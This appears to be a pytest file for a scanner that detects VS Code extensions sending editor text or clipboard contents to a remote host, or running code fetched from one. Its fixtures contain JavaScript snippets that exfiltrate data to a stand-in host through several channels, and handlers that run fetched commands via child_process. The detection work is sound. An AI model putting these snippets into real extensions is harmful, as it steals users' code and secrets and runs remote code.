"""What a program posts to a page of its extension, and what the page does with it."""

import pytest

from tests.offline import analyse, found
from vscan.model import Severity
from vscan.providers.offline.inline_scripts import only_scripts, scripts_in

PROGRAM = """const vscode = require("vscode");
exports.activate = () => {
  const panel = vscode.window.createWebviewPanel("a", "A", 1, {});
  panel.webview.html = HTML;
  POSTS
};"""
EDITED = (
    "vscode.window.onDidChangeActiveTextEditor((e) =>"
    " panel.webview.postMessage({ code: e.document.getText() }));"
)
COPIED = (
    "setInterval(async () => {"
    " panel.webview.postMessage(await vscode.env.clipboard.readText()); }, 900);"
)
NAMED = (
    "vscode.window.onDidChangeActiveTextEditor((e) =>"
    " panel.webview.postMessage(e.document.fileName));"
)
ASKED = (
    'vscode.commands.registerCommand("a.b", () => panel.webview.postMessage('
    "vscode.window.activeTextEditor.document.getText()));"
)
READ = 'require("fs").readFileSync(__dirname + "/page.html", "utf8")'
TO = "https://collect.example.invalid/in"
SENDING = {
    "beacon": (
        f'window.addEventListener("message", (e) => navigator.sendBeacon("{TO}", e.data.code));'
    ),
    "fetch": (
        f'onmessage = ({{ data }}) => {{ fetch("{TO}", {{ method: "POST", body:'
        f" JSON.stringify(data) }}); }};"
    ),
    "own function": (
        f'function pass(what) {{ fetch("{TO}", {{ method: "POST", body: what }}).catch(() =>'
        f" {{}}); }}"
        'self.addEventListener("message", function (event) { const { code } = event.data;'
        " pass(code); });"
    ),
    "picture": (
        'addEventListener("message", (e) => { const dot = new Image();'
        f'dot.src = "{TO}?c=" + encodeURIComponent(e.data.code); }});'
    ),
    "socket": (
        'const line = new WebSocket("wss://collect.example.invalid/");'
        "window.onmessage = (e) => line.send(JSON.stringify(e.data));"
    ),
    "form": (
        'addEventListener("message", (e) => { const f = document.createElement("form");'
        f'f.action = "{TO}"; f.method = "post"; const i = document.createElement("input");'
        "i.value = e.data.code; f.appendChild(i); document.body.append(f); f.submit(); });"
    ),
    "request": (
        'addEventListener("message", (e) => { const x = new XMLHttpRequest();'
        f'x.open("POST", "{TO}"); x.send(e.data.code); }});'
    ),
    "queue": (
        'const queue = []; addEventListener("message", (e) => { queue.push(e.data); });'
        f"setInterval(() => {{ for (const each of queue.splice(0))"
        f' navigator.sendBeacon("{TO}", each.code); }}, 99);'
    ),
}
SHOWING = {
    "shown": 'addEventListener("message", (e) => { document.body.textContent = e.data.code; });',
    "here": (
        'onmessage = (e) => { fetch("http://localhost:3000/in", { method: "POST", body:'
        " e.data.code }); };"
    ),
    "answered": (
        f'onmessage = async (e) => {{ const r = await fetch("{TO}", {{ method: "POST", body:'
        f" e.data.code }});"
        "document.body.textContent = await r.text(); };"
    ),
    "other": f'onmessage = (e) => {{ show(e.data); }}; navigator.sendBeacon("{TO}", "opened");',
    "link": (
        'const a = document.querySelector("a"); onmessage = (e) => { a.href ='
        ' "https://example.invalid/" + e.data.id; };'
    ),
    "compared": (
        f'onmessage = (e) => {{ if (e.data.kind === "opened")'
        f' navigator.sendBeacon("{TO}", "opened"); }};'
    ),
}


def _extension(script: str, posts: str) -> dict[str, str]:
    page = f"<!doctype html><html><body><p>it's</p><script>\n{script}\n</script></body></html>"
    return {
        "extension.js": PROGRAM.replace("HTML", READ).replace("POSTS", posts),
        "page.html": page,
    }


def _rules(files: dict[str, str]) -> dict[str, Severity]:
    return {finding.rule: finding.severity for finding in analyse(files).findings}


@pytest.mark.parametrize("posts", [EDITED, COPIED])
@pytest.mark.parametrize("script", SENDING.values(), ids=SENDING)
def test_captured_content_that_a_page_sends_on_is_found(script: str, posts: str) -> None:
    """The page is a file of the extension, and gets the content at each event."""
    assert _rules(_extension(script, posts))["captured-content"] is Severity.HIGH


@pytest.mark.parametrize("script", SENDING.values(), ids=SENDING)
def test_a_page_in_a_text_of_the_program_counts(script: str) -> None:
    """The program itself contains the page."""
    html = f'`<html><script nonce="${{nonce()}}">{script}</script></html>`'
    code = PROGRAM.replace("HTML", html).replace("POSTS", EDITED)
    assert found(code)["captured-content"] is Severity.HIGH


def test_a_script_file_of_a_page_counts() -> None:
    """The page loads its script from another file of the extension."""
    files = _extension("", EDITED) | {"media/page.js": SENDING["fetch"] + "globalThis.x = 1"}
    assert _rules(files)["captured-content"] is Severity.HIGH


@pytest.mark.parametrize("script", SHOWING.values(), ids=SHOWING)
def test_a_page_that_shows_its_messages_is_not_found(script: str) -> None:
    """The page shows what it gets, uses the answer, or sends something else."""
    assert "captured-content" not in _rules(_extension(script, EDITED))


@pytest.mark.parametrize("posts", [NAMED, ASKED])
def test_what_the_user_asks_for_is_not_found(posts: str) -> None:
    """The page sends, but gets a name only, or the text at a command."""
    assert "captured-content" not in _rules(_extension(SENDING["fetch"], posts))


def test_a_hidden_frame_of_another_host_counts() -> None:
    """A page hands its messages to a frame that nobody sees; one that is seen is an app."""
    script = 'onmessage = (e) => frame.contentWindow.postMessage(e.data, "*");'
    files = _extension(script, EDITED)
    seen = '<iframe id="frame" src="https://app.example.invalid/" width="100%"></iframe>'
    for frame, is_found in (
        (seen.replace("100%", "0"), True),
        (seen.replace("width", 'style="display:none" width'), True),
        (seen, False),
        (seen.replace("https://app.example.invalid", "").replace("100%", "0"), False),
    ):
        page = files["page.html"].replace("<p>", f"{frame}<p>")
        assert ("captured-content" in _rules(files | {"page.html": page})) is is_found


def test_only_scripts_keeps_the_places() -> None:
    """All but the scripts of a page is blank, and the lines and offsets are those of the page."""
    page = b"<p>don't\n<script src=a></script><script type='text/template'><b></script>\r\n"
    page += b"<SCRIPT>\nf()</script>"
    scripts = only_scripts(page)
    assert len(scripts) == len(page)
    assert scripts.split() == [b"f()"]
    assert scripts.index(b"f()") == page.index(b"f()")
    assert scripts.count(b"\n") == page.count(b"\n")


@pytest.mark.parametrize(
    "text", [b"<!-- <script></script>\nf()", b"f('<script></script>')", b"<p>no script"]
)
def test_what_may_be_a_program_is_kept(text: bytes) -> None:
    """A program can begin with a comment of HTML; a page without scripts has nothing to keep."""
    assert only_scripts(text) == text


def test_scripts_of_a_text_are_joined() -> None:
    """A text may have several scripts; data is none."""
    text = (
        "a<script>f()</script><script type='module'>g()</script><script"
        " type=application/json>{}</script>"
    )
    assert scripts_in(text) == "f()\n;g()"


ANSWERS = {
    "fetch": (
        "const host = acquireVsCodeApi(); setInterval(async () => {"
        f'const r = await fetch("{TO}"); host.postMessage({{ run: await r.text() }}); }}, 9e5);'
    ),
    "then": (
        f'const host = acquireVsCodeApi(); fetch("{TO}").then((r) => r.json())'
        ".then((run) => host.postMessage({ run }));"
    ),
    "socket": (
        "const host = acquireVsCodeApi(); const line = new WebSocket('wss://a.example.invalid/x');"
        "line.onmessage = (e) => host.postMessage({ run: e.data });"
    ),
}
RUNS = 'panel.webview.onDidReceiveMessage((m) => require("child_process").exec(m.run));'
RUNS_BY_NAME = (
    "const handlers = { go(m) { require('child_process').exec(m.run); } };"
    "panel.webview.onDidReceiveMessage((m) => handlers[m.kind]?.(m));"
)
EVALUATES = "panel.webview.onDidReceiveMessage(({ run }) => new Function(run)());"
HONEST_RUNS = (
    'panel.webview.onDidReceiveMessage((m) => require("child_process").exec("npm i " + m.run));',
    "panel.webview.onDidReceiveMessage((m) => terminal.sendText(m.run));",
    "panel.webview.onDidReceiveMessage((m) => vscode.window.showInformationMessage(m.run));",
)


@pytest.mark.parametrize("runs", [RUNS, RUNS_BY_NAME, EVALUATES])
@pytest.mark.parametrize("script", ANSWERS.values(), ids=ANSWERS)
def test_what_a_page_is_answered_and_the_extension_runs_is_found(script: str, runs: str) -> None:
    """The page hands on the answer of another host, and the program runs it."""
    assert _rules(_extension(script, runs))["network-code"] is Severity.HIGH


@pytest.mark.parametrize("runs", [*HONEST_RUNS, ""])
@pytest.mark.parametrize("script", ANSWERS.values(), ids=ANSWERS)
def test_an_answer_that_a_page_hands_on_may_be_used_otherwise(script: str, runs: str) -> None:
    """It is shown, typed for the user to see, or the argument of a known command."""
    assert "network-code" not in _rules(_extension(script, runs))


def test_a_command_that_the_user_gives_a_page_is_not_found() -> None:
    """The page sends what is typed into it."""
    script = (
        "const host = acquireVsCodeApi(); go.onclick = () => host.postMessage({ run: q.value });"
    )
    assert "network-code" not in _rules(_extension(script, RUNS))
